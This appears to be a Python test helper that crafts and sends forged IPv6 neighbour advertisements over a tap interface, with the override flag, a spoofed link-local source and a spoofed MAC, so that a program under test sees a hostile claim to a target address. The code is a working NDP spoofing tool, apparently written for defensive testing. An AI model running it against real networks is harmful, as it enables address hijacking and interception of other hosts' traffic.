#!/usr/bin/env python3
"""forge_na.py - send forged IPv6 neighbour advertisements out of a tap, as a
hostile host on the link would to take an address: unsolicited (to the
all-nodes group ff02::1), override flag set, from fe80::99 with MAC
02:00:00:00:00:99, naming TARGET. Run inside the test's namespace.

  forge_na.py IFACE TARGET [COUNT [INTERVAL]]

COUNT advertisements (1), INTERVAL seconds apart (0.1). Prints "sending"
as it starts, then "sent N", those the kernel took (none while the tap has
no reader).
The ICMPv6 checksum is correct and the hop limit 255, as RFC 4861 requires,
so only the claim is false.
"""
import ipaddress
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from forge_frame import csum  # noqa: E402

MAC = b"\x02\x00\x00\x00\x00\x99"
SRC = ipaddress.ip_address("fe80::99")
DST = ipaddress.ip_address("ff02::1")


def frame(target):
    # type 136, code 0, checksum, flags (override), target, target link-layer address option
    icmp = struct.pack("!BBHI16s", 136, 0, 0, 0x20000000, target.packed) + b"\x02\x01" + MAC
    pseudo = SRC.packed + DST.packed + struct.pack("!IxxxB", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", csum(pseudo + icmp)) + icmp[4:]
    ip = struct.pack("!IHBB16s16s", 6 << 28, len(icmp), 58, 255, SRC.packed, DST.packed)
    eth = b"\x33\x33\x00\x00\x00\x01" + MAC + struct.pack("!H", 0x86DD)
    return eth + ip + icmp


def main():
    if len(sys.argv) not in (3, 4, 5):
        sys.stderr.write(__doc__)
        return 2
    iface = sys.argv[1]
    f = frame(ipaddress.ip_address(sys.argv[2].split("%")[0]))
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 1
    interval = float(sys.argv[4]) if len(sys.argv) > 4 else 0.1
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    print("sending", flush=True)
    sent = 0
    for i in range(count):
        if i:
            time.sleep(interval)
        try:
            s.send(f)
            sent += 1
        except OSError:
            pass  # the tap has no reader yet (./minimal not started)
    print("sent %d" % sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
